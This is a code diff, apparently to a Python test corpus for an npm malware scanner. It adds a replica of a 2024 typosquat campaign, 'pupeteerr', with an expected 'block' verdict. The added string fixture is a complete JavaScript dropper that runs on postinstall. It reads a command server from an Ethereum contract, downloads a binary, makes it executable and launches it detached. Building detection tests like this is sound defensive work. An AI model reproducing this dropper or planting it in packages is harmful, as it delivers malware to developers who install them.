@@ -896,6 +896,35 @@ function cursorMain() {
 })();
 """
 
+# --------------------------------------------------------------------------------------------------
+# Typosquats resolving their C2 from an Ethereum smart contract, 2024-10/11 (e.g. "pupeteerr",
+# "bignum.js"-style names of puppeteer / bignum / sequelize / sharp typos).
+# Sources: Phylum, "Typosquat campaign targeting npm developers uses Ethereum smart contract for C2"
+# (2024-10-31/11, unverified URL: https://blog.phylum.io), Checkmarx / Socket follow-ups (2024-11).
+# Shape: `postinstall: node index.js`; the script asks a public Ethereum RPC for a string stored in a
+# contract (ethers `getString(address)`), uses it as the C2 address, downloads a platform-specific
+# binary to the temp dir, makes it executable and starts it detached.
+_ETH_C2_DROPPER = r"""const { ethers } = require('ethers');
+const axios = require('axios'); const fs = require('fs'); const os = require('os'); const path = require('path');
+const { spawn } = require('child_process');
+const abi = ['function getString(address account) public view returns (string)'];
+const provider = ethers.getDefaultProvider('mainnet');
+const contract = new ethers.Contract('0x8863b75d4d4f55361c9f3a9419f7dc3d8863b75d', abi, provider);
+const fetchAndUpdateIp = async () => { try { return await contract.getString('0x5bd778663d3651f5c56e722bee746f1d5bd77866'); } catch (e) { return 'http://203.0.113.67:3001'; } };
+const getDownloadUrl = (host) => { const p = os.platform(); return p === 'win32' ? host + '/node-win.exe' : p === 'linux' ? host + '/node-linux' : p === 'darwin' ? host + '/node-macos' : null; };
+const downloadFile = async (url, dest) => { const w = fs.createWriteStream(dest); const r = await axios({ url, method: 'GET', responseType: 'stream' }); r.data.pipe(w); return new Promise((res, rej) => { w.on('finish', res); w.on('error', rej); }); };
+const executeFileInBackground = (file) => { spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); };
+const runInstallation = async () => {
+  const host = await fetchAndUpdateIp();
+  const url = getDownloadUrl(host); if (!url) return;
+  const dest = path.join(os.tmpdir(), path.basename(url));
+  await downloadFile(url, dest);
+  if (os.platform() !== 'win32') fs.chmodSync(dest, '755');
+  executeFileInBackground(dest);
+};
+runInstallation();
+"""
+
 
 INCIDENTS: list[Replica] = [
     Replica(
@@ -1205,6 +1234,19 @@ INCIDENTS: list[Replica] = [
         manifest={"main": "index.js", "bin": {"sw-cur": "index.js"}},
         name="sw-cur",
         note="bin CLI: credentials to the attacker, decrypted download written over another app's main.js",
+    ),
+    Replica(
+        "ethereum-contract-c2-2024-11-typosquat-dropper",
+        {"index.js": _ETH_C2_DROPPER},
+        "block",
+        _NO_RULES,
+        manifest={
+            "main": "index.js",
+            "scripts": {"postinstall": "node index.js"},
+            "dependencies": {"ethers": "^6.13.0", "axios": "^1.7.0"},
+        },
+        name="pupeteerr",
+        note="install-time: C2 address read from a smart contract, binary downloaded, chmod, spawned detached",
     ),
 ]
 
